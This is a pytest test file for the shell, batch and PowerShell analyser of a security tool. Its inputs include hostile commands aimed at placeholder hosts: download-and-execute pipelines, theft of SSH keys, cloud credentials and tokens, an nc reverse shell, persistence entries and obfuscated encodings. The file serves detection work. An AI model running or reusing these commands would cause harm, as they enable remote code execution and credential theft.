"""Command scripts: what they do is told as facts, with values folded and flows followed."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lazaretto.core.facts import Facts, Kind, Moment
from lazaretto.core.language import NoUnits
from lazaretto.languages import shell


def read(text: str, dialect: str = "command") -> Facts:
    """Return the facts of a script."""
    return shell.read(dialect, text.encode("utf-8"), NoUnits())


def values(facts: Facts, kind: Kind) -> list[str | None]:
    """Return the values of all facts of a kind, in order."""
    return [fact.value for fact in facts.facts if fact.kind is kind]


def flows(facts: Facts) -> set[tuple[Kind, Kind]]:
    """Return the kinds that flow into one another."""
    return {(facts.facts[flow.source].kind, facts.facts[flow.sink].kind) for flow in facts.flows}


@pytest.mark.parametrize(
    ("path", "data", "expected"),
    [
        ("a/b.sh", b"", ("shell", 50)),
        ("run.bat", b"", ("batch", 50)),
        ("run.CMD", b"", ("batch", 50)),
        ("x.ps1", b"", ("powershell", 50)),
        ("bin/tool", b"#!/bin/sh\n", ("shell", 90)),
        ("bin/tool", b"#!/usr/bin/env -S bash -e\n", ("shell", 90)),
        ("bin/tool", b"#! /usr/bin/pwsh\n", ("powershell", 90)),
        ("bin/tool", b"#!/usr/bin/env node\n", None),
        ("logo.png", b"#!/bin/sh\n", None),
        ("readme.md", b"text", None),
    ],
)
def test_claims_by_first_line_and_ending(path: str, data: bytes, expected: tuple[str, int] | None) -> None:
    """A shebang outweighs the ending; other interpreters and false names are left to others."""
    claim = shell.claim(path, data)
    assert (claim and (claim.dialect, claim.rank)) == expected


@pytest.mark.parametrize(
    ("command", "imported"),
    [
        ("node setup.js", "./setup.js"),
        ("node ./scripts/a.js --flag", "./scripts/a.js"),
        ("cd lib && node install.js", "./lib/install.js"),
        ("node -r ./hook.js", "./hook.js"),
        ("node --import=./l.mjs", "./l.mjs"),
        ("python3 -u tools/x.py", "./tools/x.py"),
        ("sh ./x.sh || true", "./x.sh"),
        ("./run", "./run"),
        ("npx ./bin/x.js", "./bin/x.js"),
        ("cmd /c x.bat", "./x.bat"),
        ("powershell -File x.ps1", "./x.ps1"),
        ("powershell -NoProfile -ExecutionPolicy Bypass -File .\\x.ps1", "./x.ps1"),
        ("scripts\\install.bat", "./scripts/install.bat"),
        ("cross-env A=1 node x.js", "./x.js"),
        ("sudo -E node x.js", "./x.js"),
        ("NODE_OPTIONS='--require ./pre.js' node", "./pre.js"),
        ("if [ -f x.js ]; then node x.js; fi", "./x.js"),
        ('X=setup; node "$X.js"', "./setup.js"),
        ("node $SCRIPT", ""),
    ],
)
def test_files_of_the_package_that_a_command_loads(command: str, imported: str) -> None:
    """A relative file that an interpreter is given is an import; '' if it cannot be known."""
    assert imported in values(read(command), Kind.IMPORT)


def test_windows_command_hides_nothing_from_the_posix_reading() -> None:
    """A command that names Windows files is read as both shells would; neither reading replaces the other."""
    facts = read("c\\url a.invalid | sh; dir\\x.bat")
    assert values(facts, Kind.NET_CONNECT) == ["a.invalid"]
    assert "./dir/x.bat" in values(facts, Kind.IMPORT)
    assert (Kind.NET_CONNECT, Kind.CODE_EVAL) in flows(facts)


@pytest.mark.parametrize(
    "command", ["tsc -p .", "node node_modules/x/y.js", "node /opt/x.js", "npm run build", "echo node x.js"]
)
def test_what_loads_no_file_of_the_package(command: str) -> None:
    """Programs and files from elsewhere are not imports."""
    assert values(read(command), Kind.IMPORT) == []


@pytest.mark.parametrize(
    "command",
    [
        "curl -sSL https://a.invalid/x | sh",
        "curl https://a.invalid/x | sudo bash -s -- --yes",
        "wget -qO- https://a.invalid/x | grep -v nothing | bash",
        "wget -O f https://a.invalid/x && chmod +x f && ./f",
        "curl -o /tmp/f https://a.invalid/x; sh /tmp/f",
        "curl -O https://a.invalid/f; node f",
        'eval "$(curl -s https://a.invalid/x)"',
        "X=`curl https://a.invalid/x`; eval $X",
        "bash <(curl -s https://a.invalid/x)",
        'bash -c "$(wget -O - https://a.invalid/x)"',
        "curl https://a.invalid/x | xargs -0 sh -c",
        'powershell -c "iex (iwr https://a.invalid/x)"',
        "certutil -urlcache -split -f https://a.invalid/x x.exe & x.exe",
        "f() { curl https://a.invalid/x; }; f | sh",
    ],
)
def test_download_flows_to_execution(command: str) -> None:
    """What was fetched and is then run is one flow, whatever lies between."""
    facts = read(command)
    assert any(value and "a.invalid/" in value for value in values(facts, Kind.NET_CONNECT))
    assert flows(facts) & {(Kind.NET_CONNECT, Kind.CODE_EVAL), (Kind.NET_CONNECT, Kind.PROCESS_SPAWN)}


@pytest.mark.parametrize(
    ("command", "source"),
    [
        ("cat ~/.npmrc | curl -d @- https://a.invalid", Kind.SECRET_READ),
        ("curl -F f=@$HOME/.aws/credentials https://a.invalid", Kind.SECRET_READ),
        ('curl -H "X: $NPM_TOKEN" https://a.invalid', Kind.SECRET_READ),
        ("tar czf /tmp/s.tgz ~/.ssh; curl -T /tmp/s.tgz https://a.invalid", Kind.SECRET_READ),
        ('curl -d "$(env | base64)" https://a.invalid', Kind.ENV_DUMP),
        ("printenv > e; curl --data-binary @e https://a.invalid", Kind.ENV_DUMP),
        ("cat ~/.ssh/id_rsa > /dev/tcp/192.0.2.1/443", Kind.SECRET_READ),
        ("scp ~/.ssh/id_rsa someone@host.invalid:/nonexistent/", Kind.SECRET_READ),
    ],
)
def test_secrets_flow_to_the_network(command: str, source: Kind) -> None:
    """A credential or the environment that is sent is a flow, through pipes, files and archives."""
    assert (source, Kind.NET_CONNECT) in flows(read(command))


@pytest.mark.parametrize(
    ("command", "code", "via"),
    [
        (f"echo {base64.b64encode(b'curl a.invalid').decode()} | base64 -d | sh", "curl a.invalid", "base64"),
        ("xxd -r -p <<< 6375726c20612e696e76616c6964 | bash", "curl a.invalid", "hex"),
        ("printf '\\143url a.invalid' | sh", "curl a.invalid", "plain"),
        ("echo dilavni.a lruc | rev | sh", "curl a.invalid\n", "reverse"),
        ("echo phey n.vainyvq | tr a-z n-za-m | sh", "curl a.invalid\n", "translate"),
        ("X=cu; Y=rl; eval $X$Y a.invalid", "curl a.invalid", "plain"),
        ("eval $'\\x63url' a.invalid", "curl a.invalid", "plain"),
        (
            f"{{echo,{base64.b64encode(b'curl a.invalid').decode()}}}|{{base64,-d}}|{{bash,-i}}",
            "curl a.invalid",
            "base64",
        ),
        ("Z=xxcurl; eval ${Z:2} a.invalid", "curl a.invalid", "plain"),
        ("Z=cuQrl; eval ${Z//Q/} a.invalid", "curl a.invalid", "plain"),
    ],
)
def test_hidden_commands_are_folded_and_read(command: str, code: str, via: str) -> None:
    """Constant text is followed through decoders to the shell, and what it does is told too."""
    facts = read(command)
    evals = [fact for fact in facts.facts if fact.kind is Kind.CODE_EVAL]
    assert [(fact.value, fact.via) for fact in evals] == [(code, via)]
    assert values(facts, Kind.NET_CONNECT) == ["a.invalid"]


@pytest.mark.parametrize(
    "command",
    ["c\\url a.invalid", "'cu'rl a.invalid", 'c""url a.invalid', "$(printf cu)rl a.invalid", "/usr/bin/curl a.invalid"],
)
def test_quoting_does_not_hide_a_program(command: str) -> None:
    """However a program's name is spelt, it is the same program."""
    assert values(read(command), Kind.NET_CONNECT) == ["a.invalid"]


def test_text_in_another_language_names_it() -> None:
    """The body of ``node -e`` or ``python -c`` is kept for whoever reads that language."""
    facts = read("node -e \"require('fs')\" && python -c 'import os' && perl -e 'print 1'")
    evals = [(fact.value, fact.via) for fact in facts.facts if fact.kind is Kind.CODE_EVAL]
    assert evals == [("require('fs')", "javascript"), ("import os", "python"), ("print 1", "perl")]


def test_a_body_that_was_cut_is_a_problem() -> None:
    """A body longer than a fact holds is not passed off as read."""
    assert not read(f"node -e '{'x;' * 2000}'").complete


def test_encoded_powershell_command() -> None:
    """Base64 of UTF-16 is decoded, told, and read as PowerShell."""
    encoded = base64.b64encode("iex (iwr http://a.invalid/x)".encode("utf-16-le")).decode()
    facts = read(f"powershell.exe -nop -w hidden -enc {encoded}")
    assert values(facts, Kind.DECODE) == ["iex (iwr http://a.invalid/x)"]
    assert values(facts, Kind.NET_CONNECT) == ["http://a.invalid/x"]
    assert (Kind.NET_CONNECT, Kind.CODE_EVAL) in flows(facts)


@pytest.mark.parametrize(
    ("command", "kind", "value"),
    [
        ('rm -- "$0"', Kind.FS_SELF_DELETE, "$0"),
        ("node setup.js; rm setup.js", Kind.FS_SELF_DELETE, "setup.js"),
        ("rm -f package.json", Kind.FS_SELF_DELETE, "package.json"),
        ("mv package.md package.json", Kind.FS_SELF_DELETE, "package.json"),
        ("rm -rf dist", Kind.FS_DELETE, "dist"),
        ("find . -name x -delete", Kind.FS_DELETE, "."),
        ("echo x >> ~/.bashrc", Kind.PERSIST, "~/.bashrc"),
        ("(crontab -l; echo '* * * * * x') | crontab -", Kind.PERSIST, "crontab -"),
        ("systemctl --user enable x.service", Kind.PERSIST, "systemctl --user enable x.service"),
        ("curl -fsSL https://bun.sh/install | bash", Kind.RUNTIME_FETCH, "bun"),
        ("npm install -g deno@2", Kind.RUNTIME_FETCH, "deno"),
        ("nslookup $(whoami).a.invalid", Kind.DNS_QUERY, "$(whoami).a.invalid"),
        ("nc -l -p 4444", Kind.NET_LISTEN, "4444"),
        ("nc 192.0.2.1 4444 -e /bin/sh", Kind.NET_CONNECT, "192.0.2.1:4444"),
        ("exec 3<>/dev/tcp/192.0.2.1/80", Kind.NET_CONNECT, "192.0.2.1:80"),
        ("openssl enc -aes-256-cbc -d -in x -k y", Kind.DECRYPT, "aes-256-cbc"),
        ("echo hi | tee out.txt", Kind.FS_WRITE, "out.txt"),
        ("cat /proc/self/environ", Kind.SECRET_READ, "/proc/self/environ"),
        ("curl http://169.254.169.254/latest/meta-data/", Kind.NET_CONNECT, "http://169.254.169.254/latest/meta-data/"),
    ],
)
def test_capabilities(command: str, kind: Kind, value: str) -> None:
    """Each capability is told with its concrete value."""
    assert value in values(read(command), kind)


def test_harmless_build_script_has_nothing_but_programs() -> None:
    """An ordinary build script is programs and nothing else."""
    facts = read("tsc -p . && rollup -c rollup.config.js && eslint 'src/**/*.ts' || exit 1")
    assert {fact.kind for fact in facts.facts} == {Kind.PROCESS_SPAWN}
    assert facts.complete


def test_functions_run_when_called() -> None:
    """The body of a function that nobody calls has the moment CALL."""
    facts = read("used() { curl a.invalid; }\nspare() { curl b.invalid; }\nused\n", "shell")
    moments = {fact.value: fact.moment for fact in facts.facts if fact.kind is Kind.NET_CONNECT}
    assert moments == {"a.invalid": Moment.LOAD, "b.invalid": Moment.CALL}


def test_script_with_documents_cases_loops_and_its_own_folder() -> None:
    """The usual grammar of a script is understood, and spans point at the command."""
    text = """#!/bin/bash
set -euo pipefail
DIR="$( cd "$( dirname "${BASH_SOURCE[0]}" )" && pwd )"
cat > /nonexistent/run.sh <<'END'
curl https://a.invalid | sh
END
sh /nonexistent/run.sh
case "$1" in
  a|b) echo x ;;
  *) node "$DIR/y.js" ;;
esac
for f in one two; do rm "$f"; done
while read -r line; do echo "$line"; done < list
(( n = $(wc -l < list) + 1 )); [[ $n -gt 3 && -z ${X:-} ]] && echo "${n%%.*}"
"""
    facts = read(text, "shell")
    assert facts.complete
    assert values(facts, Kind.IMPORT) == ["./y.js"]
    assert values(facts, Kind.FS_DELETE) == ["one", "two"]
    connect = next(fact for fact in facts.facts if fact.kind is Kind.NET_CONNECT)
    assert connect.span.line == 7
    loaded = next(fact for fact in facts.facts if fact.kind is Kind.IMPORT)
    assert (loaded.span.line, loaded.span.column) == (10, 5)
    assert text.encode()[loaded.span.start : loaded.span.end].startswith(b"node")


def test_batch_file() -> None:
    """Conditions, variables, carets and nested PowerShell of a batch file are seen through."""
    facts = read(
        "@echo off\r\nset U=https://a.invalid/x.exe\r\n"
        "if exist y (curl -o x.exe %U%) else certutil -urlcache -f %U% x.exe\r\nstart /b x.exe\r\n"
        'rem curl https://c.invalid\r\nc^url https://b.invalid\r\nnode "%~dp0\\a.js" %*\r\n'
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y\r\n",
        "batch",
    )
    assert values(facts, Kind.NET_CONNECT) == [
        "https://a.invalid/x.exe",
        "https://a.invalid/x.exe",
        "https://b.invalid",
    ]
    assert (Kind.NET_CONNECT, Kind.PROCESS_SPAWN) in flows(facts)
    assert values(facts, Kind.IMPORT) == ["./a.js"]
    assert len(values(facts, Kind.PERSIST)) == 1


def test_powershell_script() -> None:
    """Expressions, joined strings, .NET calls and script blocks of PowerShell are followed."""
    facts = read(
        "$u = 'https://a.invalid/' + 'x'\n$wc = New-Object Net.WebClient\n"
        '$wc.DownloadFile($u, "$env:TEMP\\x.exe")\nStart-Process "$env:TEMP\\x.exe"\n'
        "IEX(New-Object Net.WebClient).DownloadString('https://b.invalid/y')\n"
        "$d = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('Y3VybCBjLmludmFsaWQ='))\n& { iex $d }\n"
        "<# curl d.invalid #>\nirm https://e.invalid -Method Post -Body $env:NPM_TOKEN\n",
        "powershell",
    )
    connects = values(facts, Kind.NET_CONNECT)
    assert connects == ["https://a.invalid/x", "https://b.invalid/y", "c.invalid", "https://e.invalid"]
    assert {
        (Kind.NET_CONNECT, Kind.PROCESS_SPAWN),
        (Kind.NET_CONNECT, Kind.CODE_EVAL),
        (Kind.SECRET_READ, Kind.NET_CONNECT),
        (Kind.DECODE, Kind.CODE_EVAL),
    } <= flows(facts)


@pytest.mark.parametrize(
    ("text", "cut"),
    [
        ("iex \u2018curl https://a.invalid/x\u2019", "iex \u2018curl https://a.invalid/x\u2019"),
        ("$a = \u201c\u2019\u201e; irm \u201chttps://a.invalid/x\u201d", "irm \u201chttps://a.invalid/x\u201d"),
        ("\u201ait\u2019\u2019s\u201b; irm \u2019https://a.invalid/x'", "irm \u2019https://a.invalid/x'"),
        ("irm \u2014Uri https://a.invalid/x", "irm \u2014Uri https://a.invalid/x"),
    ],
)
def test_powershell_takes_the_marks_of_books(text: str, cut: str) -> None:
    """Quotation marks and dashes that a word processor makes are as good as those of the keyboard; places stay."""
    facts = read(text, "powershell")
    connect = next(fact for fact in facts.facts if fact.kind is Kind.NET_CONNECT)
    assert facts.complete
    assert connect.value == "https://a.invalid/x"
    assert text.encode()[connect.span.start : connect.span.end].decode() == cut


@pytest.mark.parametrize("dash", ["-", "/", "\u2013", "\u2014", "\u2015"])
def test_powershell_takes_other_dashes_before_its_options(dash: str) -> None:
    """A path that begins with a slash is none."""
    encoded = base64.b64encode("iwr http://a.invalid/x".encode("utf-16-le")).decode()
    assert values(read(f"powershell {dash}nop {dash}enc {encoded}"), Kind.NET_CONNECT) == ["http://a.invalid/x"]
    assert values(read("powershell /e/x.ps1"), Kind.CODE_EVAL) == ["/e/x.ps1"]


def test_a_dash_in_a_sentence_stays() -> None:
    """Only before the name of a parameter it is one."""
    facts = read("irm https://a.invalid \u2013Body 'x \u2014 y'", "powershell")
    assert values(facts, Kind.PROCESS_SPAWN) == ["irm https://a.invalid -Body x \u2014 y"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_places_are_those_of_the_published_file(encoding: str) -> None:
    """Whatever the encoding, a span cuts the command out of the bytes as published."""
    data = "# \u00e9\U0001f600\ncurl a.invalid\n".encode(encoding)
    fact = shell.read("powershell", data, NoUnits()).facts[0]
    cut = data[fact.span.start : fact.span.end].decode("utf-16-le" if encoding == "utf-16" else "utf-8")
    assert (cut, fact.span.line, fact.span.column) == ("curl a.invalid", 2, 0)


@pytest.mark.parametrize("text", ["echo 'x", 'echo "x', "if true; then x", "echo $(x", "cat <<E\nx", "x )", "echo ${x"])
def test_what_does_not_fit_the_grammar_is_a_problem(text: str) -> None:
    """A broken script is incomplete, never empty and content."""
    assert not read(text, "shell").complete


@pytest.mark.parametrize(
    "text", ["(" * 50_000, "$(" * 50_000, "f()" * 20_000, '"$(' * 20_000, "${a" * 20_000, "`" * 20_001]
)
def test_hostile_nesting_ends_in_a_problem(text: str) -> None:
    """Deep nesting neither hangs nor overflows; it is said not to be understood."""
    assert not read(text, "shell").complete


def test_a_script_over_the_limit_is_a_problem() -> None:
    """A script longer than the limit is not read at all, and that is said."""
    assert not shell.read("shell", b"#" * (shell.MAX_SCRIPT + 1), NoUnits()).complete


def test_facts_are_bounded() -> None:
    """A script of endless commands stops at a limit and says so."""
    facts = read("a;" * 60_000, "shell")
    assert len(facts.facts) <= 20_000
    assert not facts.complete


def test_hidden_characters_in_a_script() -> None:
    """A direction override in a comment is hidden text."""
    assert values(read("echo x # \u202e reversed", "shell"), Kind.HIDDEN_TEXT) == ["bidi"]


_PIECES = st.sampled_from(
    [
        *(
            "curl ",
            "| ",
            "sh ",
            "$(",
            "`",
            ")",
            "(",
            "{",
            "}",
            "'",
            '"',
            "<<E\n",
            "E\n",
            "\n",
            ";;",
            "case x in ",
            "a) ",
        ),
        *(
            "esac ",
            "if ",
            "then ",
            "fi ",
            "for i in a b; do ",
            "done ",
            "f() ",
            "$X",
            "${X:-",
            "[[ ",
            "]] ",
            "((",
            "&&",
        ),
        *(
            "> f ",
            "\\",
            "#",
            "eval ",
            "base64 -d ",
            "@(",
            "[char]65",
            ".Invoke(",
            "@'",
            "$x = ",
            "%X%",
            "^",
            "-f ",
            "xargs ",
        ),
        *("\u00e9", "\0"),
    ]
)


@given(pieces=st.lists(_PIECES, max_size=40), dialect=st.sampled_from(shell.DIALECTS))
def test_any_script_gives_facts_inside_the_file(pieces: list[str], dialect: str) -> None:
    """Whatever the text: no exception, spans inside the file, flows between known facts, the same every time."""
    data = "".join(pieces).encode()
    facts = shell.read(dialect, data, NoUnits())
    for fact in facts.facts:
        assert 0 <= fact.span.start <= fact.span.end <= len(data)
        assert 1 <= fact.span.line <= data.count(b"\n") + 1
    for flow in facts.flows:
        assert flow.source != flow.sink
        assert max(flow.source, flow.sink) < len(facts.facts)
    assert facts == shell.read(dialect, data, NoUnits())


def test_a_joined_text_without_a_command_is_no_script() -> None:
    """Every branch is walked: what autoconf evaluates in one that never runs is no defect where it does nothing."""
    joined = read("f() {\n eval r=\\$$2\n}\nf $h '#include <stddef.h> #ifdef'\n", "shell")

    assert not joined.problems
    assert read("f() {\n eval r=\\$$2\n}\nf $h '; curl x.invalid >'\n", "shell").problems


@pytest.mark.parametrize("name", ["ŅÌβŁÈà…x.txt", "a\x1cb\x1f", "\xa0", "x\x85"])
@pytest.mark.parametrize("dialect", ["shell", "powershell"])
def test_only_the_shells_own_blanks_part_words(name: str, dialect: str) -> None:
    """Other languages call some of these bytes blanks, above all those inside other letters: not understood, or cut."""
    facts = read(f"rm {name} b\nrm c", dialect)
    assert not facts.problems
    assert values(facts, Kind.FS_DELETE) == [name, "b", "c"]


@pytest.mark.parametrize(
    "unpack", ["curl -sL https://x.invalid/a.tgz | tar xz", "curl -so a.zip https://x.invalid/a\nunzip a.zip"]
)
def test_what_was_unpacked_and_is_run_was_fetched(unpack: str) -> None:
    """A relative path that nothing else has written may be of the archive; an absolute one, and a written one, not."""
    assert (Kind.NET_CONNECT, Kind.PROCESS_SPAWN) in flows(read(f"{unpack}\n./config.sh --now\n", "shell"))
    assert flows(read(f"{unpack}\n/usr/bin/config.sh\n", "shell")) <= {(Kind.NET_CONNECT, Kind.FS_WRITE)}
    assert flows(read(f"{unpack}\necho id > b.sh\n./b.sh\n", "shell")) <= {(Kind.NET_CONNECT, Kind.FS_WRITE)}
